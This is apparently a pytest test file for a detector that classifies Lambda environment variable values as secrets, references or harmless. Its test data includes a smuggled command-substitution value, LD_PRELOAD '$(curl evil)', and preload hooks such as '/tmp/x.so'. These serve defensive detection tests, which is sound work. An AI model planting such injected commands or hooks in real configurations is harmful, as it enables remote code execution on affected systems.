"""What the detector says about single values."""

import base64
import json
import re

import pytest

from lambdaudit.secrets import Context, Judgement, Reference, Shape, judge, judge_all
from lambdaudit.secrets.formats import FORMATS

from .secret_cases import build, load

AKIA = build("⟦akid AKIA⟧", "judge")
ASIA = build("⟦akid ASIA⟧", "judge")
SECRET_KEY = build("⟦b64 40⟧", "judge")


def refs(judgement: Judgement) -> set[str]:
    return {str(reference) for reference in judgement.references}


@pytest.mark.parametrize(
    ("name", "value", "shape"),
    [
        ("DEBUG", "true", Shape.BOOLEAN),
        ("PASSWORD_MIN_LENGTH", "12", Shape.NUMBER),
        ("TIMEOUT", "2.5", Shape.NUMBER),
        ("ACCOUNT_ID", "123456789012", Shape.NUMBER),
        ("REGION", "eu-west-1", Shape.REGION),
        ("TOPIC_ARN", "arn:aws:sns:eu-west-1:123456789012:orders", Shape.ARN),
        ("DB_PASSWORD", "arn:aws:ssm:eu-west-1:123456789012:parameter/db", Shape.ARN),
        ("LOG_LEVEL", "DEBUG", Shape.LOG_LEVEL),
        ("STAGE", "prod", Shape.ENUM),
        ("AWS_LAMBDA_EXEC_WRAPPER", "/opt/wrapper.sh", Shape.HOOK),
        ("NODE_OPTIONS", "--require /opt/hook.js --enable-source-maps", Shape.HOOK),
        ("LD_PRELOAD", "/tmp/x.so", Shape.HOOK),
        ("PYTHONPATH", "/opt/python:/var/task/lib", Shape.HOOK),
        ("JAVA_TOOL_OPTIONS", "-javaagent:/opt/agent.jar -Xmx256m", Shape.HOOK),
        ("DOTNET_STARTUP_HOOKS", "/opt/hook.dll", Shape.HOOK),
    ],
)
def test_harmless_values_may_be_shown(name: str, value: str, shape: Shape) -> None:
    judgement = judge(name, value)
    assert (judgement.kind, judgement.public, judgement.shape) == (None, True, shape)


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("DB_PASSWORD", "123456"),
        ("PIN", "4821"),
        ("DB_HOST", "db.internal"),
        ("TABLE_NAME", "orders"),
        ("API_URL", "https://api.example.com"),
        ("PHONE", "41441234567000"),
        ("NOTE", "call Jane"),
        ("CONFIG_PATH", "/etc/app.conf"),
        ("JAVA_TOOL_OPTIONS", "-Ddb.password=hunter2"),
        ("JAVA_TOOL_OPTIONS", "-Dkey.store.pass=x"),
        ("NODE_OPTIONS", build("--title=⟦b62 40⟧", "hook")),
        ("LD_PRELOAD", "$(curl evil)"),
    ],
)
def test_all_other_values_are_never_shown(name: str, value: str) -> None:
    assert not judge(name, value).public


def test_long_term_key_names_its_account_and_not_itself() -> None:
    judgement = judge("UPLOAD", AKIA)
    assert (judgement.kind, judgement.confidence) == ("aws-access-key", "high")
    assert [r.kind for r in judgement.references] == ["account"]
    assert len(judgement.references[0].value) == 12
    assert AKIA not in str(judgement)


def test_account_of_a_published_example_key() -> None:
    # The id and its account stand in awsteele.com's article on the format of access key ids.
    key_id = "ASIA" + "Y34FZKBOKMUTVV7A"
    assert judge("X", key_id, context=Context.SOURCE).references == (Reference("account", "609629065308"),)


def test_platform_credentials_are_ignored_only_where_the_platform_sets_them() -> None:
    assert judge("AWS_ACCESS_KEY_ID", ASIA).shape is Shape.PLATFORM_CREDENTIAL
    assert judge("AWS_ACCESS_KEY_ID", AKIA).kind == "aws-access-key"
    assert judge("OTHER", ASIA).kind == "aws-temporary-key"
    assert judge("AWS_ACCESS_KEY_ID", ASIA, context=Context.SOURCE).kind == "aws-temporary-key"


def test_variables_judged_together() -> None:
    token = build("IQoJ⟦b64 300⟧", "session")
    own = judge_all({"AWS_ACCESS_KEY_ID": ASIA, "AWS_SECRET_ACCESS_KEY": SECRET_KEY, "AWS_SESSION_TOKEN": token, "A": "1"})
    assert {name: j.kind for name, j in own.items()} == dict.fromkeys(own)
    theirs = judge_all({"AWS_ACCESS_KEY_ID": AKIA, "AWS_SECRET_ACCESS_KEY": SECRET_KEY})
    assert {j.kind for j in theirs.values()} == {"aws-access-key", "aws-secret-key"}


def test_github_checksum_decides_the_confidence() -> None:
    good = build("⟦ghsum ghp⟧", "checksum")
    bad = good[:-1] + ("A" if good[-1] != "A" else "B")
    assert judge("X", good).confidence == "high"
    assert judge("X", bad).confidence == "low"


def test_kms_ciphertext_is_recognised_under_any_name() -> None:
    for name in ("DB_PASSWORD", "kmsEncryptedToken", "X"):
        judgement = judge(name, build("⟦kms 24⟧", name))
        assert (judgement.kind, judgement.shape, judgement.public) == (None, Shape.KMS_CIPHERTEXT, False)


def test_ciphertext_of_a_kms_emulator_is_recognised() -> None:
    key_id = build("⟦uuid⟧", "emulator").encode()
    blob = base64.b64encode(key_id + bytes(range(60))).decode()
    assert judge("DB_PASSWORD", blob).shape is Shape.KMS_CIPHERTEXT


def test_anonymous_supabase_key_is_public_and_the_service_key_is_not() -> None:
    assert judge("SUPABASE_KEY", build("⟦jwt anon⟧", "anon")).kind is None
    assert judge("SUPABASE_KEY", build("⟦jwt service_role⟧", "service")).kind == "jwt"


@pytest.mark.parametrize(
    ("name", "value", "expected"),
    [
        ("BUCKET_NAME", "shop-assets", {"bucket:shop-assets"}),
        ("BUCKETS", "shop-a,shop-b", {"bucket:shop-a", "bucket:shop-b"}),
        ("SOURCE", "s3://shop-raw/in/", {"bucket:shop-raw", "host:shop-raw"}),
        ("TABLE_NAME", "orders", {"table:orders"}),
        ("DB_SECRET_NAME", "prod/orders/db", {"secret:prod/orders/db"}),
        ("DB_SECRET", "prod/orders/db", {"secret:prod/orders/db"}),
        ("DB_PASSWORD", "/prod/db/password", {"parameter:/prod/db/password"}),
        ("DB_PASSWORD", "{{resolve:ssm-secure:/prod/db/pw:3}}", {"parameter:/prod/db/pw"}),
        ("DB_PASSWORD", "{{resolve:secretsmanager:prod/db:SecretString:pw}}", {"secret:prod/db"}),
        ("KMS_KEY", "alias/orders", {"key:alias/orders"}),
        ("USER_POOL_ID", "eu-west-1_AbCdEfGhI", {"user-pool:eu-west-1_AbCdEfGhI"}),
        ("API", "https://api.example.com/v1?x=1", {"host:api.example.com"}),
    ],
)
def test_references(name: str, value: str, expected: set[str]) -> None:
    assert refs(judge(name, value)) == expected


def test_queue_url_gives_queue_account_and_host() -> None:
    url = "https://sqs.eu-west-1.amazonaws.com/123456789012/orders.fifo"
    assert refs(judge("QUEUE_URL", url)) == {
        "queue:orders.fifo",
        "account:123456789012",
        "host:sqs.eu-west-1.amazonaws.com",
    }


def test_connection_string_gives_its_host_and_never_its_password() -> None:
    judgement = judge("DATABASE_URL", "postgres" + "://app:s3/cr@t#Pw@db.internal:5432/orders")
    assert judgement.kind == "database-url-password"
    assert refs(judgement) == {"host:db.internal"}


def test_references_inside_json() -> None:
    value = json.dumps(
        {
            "queue": "https://sqs.eu-west-1.amazonaws.com/123456789012/q",
            "key": "arn:aws:kms:eu-west-1:123456789012:key/1",
        }
    )
    assert {"queue:q", "arn:arn:aws:kms:eu-west-1:123456789012:key/1"} <= refs(judge("CONFIG", value))


def test_secrets_are_found_through_layers_of_encoding() -> None:
    inner = json.dumps({"db": {"password": build("⟦b62 20⟧", "layers")}})
    twice = base64.b64encode(json.dumps({"config": base64.b64encode(inner.encode()).decode()}).encode()).decode()
    assert judge("SETTINGS", twice).kind == "password"


def test_length_counts_all_characters() -> None:
    assert judge("X", "  padded ").length == 9


@pytest.mark.parametrize(
    ("context", "kind"),
    [(Context.ENVIRONMENT, "password"), (Context.CONFIG, "password"), (Context.SOURCE, None), (Context.METADATA, None)],
)
def test_words_under_a_password_name_count_only_where_names_hold_values(context: Context, kind: str | None) -> None:
    assert judge("password", "elephants", context=context).kind == kind


def test_the_worked_example_of_the_sources_has_no_secret() -> None:
    variables = {"DB_HOST": "db.internal", "DB_USER": "app", "DB_NAME": "orders", "SECRET_NAME": "prod/orders/db"}
    assert all(judgement.kind is None for judgement in judge_all(variables).values())


def test_a_word_that_might_be_the_secret_is_no_reference() -> None:
    assert refs(judge("DB_SECRET", "blue-horse")) == set()
    assert refs(judge("DB_SECRET", "orders-db")) == {"secret:orders-db"}


def test_reasons_are_the_same_sentences_for_every_draw() -> None:
    drawn = [{judge(case.name, case.value).reason for case in load("tuning", seed)} for seed in (11, 12)]
    assert drawn[0] == drawn[1]


def test_every_format_is_a_valid_linear_pattern_that_holds_its_anchors() -> None:
    for form in FORMATS:
        compiled = re.compile(form.pattern)
        assert form.anchors
        assert all(form.anchors)
        assert compiled.match("") is None
        # Nested unbounded repetition is what makes patterns blow up; ours are bounded everywhere.
        assert not re.search(r"(?<!\\)[*+](?![/0-9.=_-])", re.sub(r"\[[^\]]*\]", "", form.pattern)), form.kind


@pytest.mark.parametrize("name", ["ALPHABET", "SHARE_CHARACTERS", "BASE"])
@pytest.mark.parametrize("order", ["aA0", "0Aa", "Aa0-_"])
def test_characters_to_draw_from_are_no_secret(name: str, order: str) -> None:
    runs = {"a": "abcdefghijklmnopqrstuvwxyz", "A": "ABCDEFGHIJKLMNOPQRSTUVWXYZ", "0": "0123456789"}
    value = "".join(runs.get(one, one) for one in order)
    assert judge(name, value).kind is None
